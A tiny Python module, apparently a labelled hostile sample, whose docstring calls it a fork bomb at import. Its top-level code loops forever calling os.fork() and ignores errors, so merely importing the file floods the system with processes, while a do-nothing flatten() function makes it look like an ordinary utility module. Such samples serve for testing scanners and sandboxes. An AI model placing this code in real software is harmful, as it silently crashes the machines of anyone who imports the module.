"""Hostile: a fork bomb at import: every process forks forever."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass


def flatten(items):
    return items
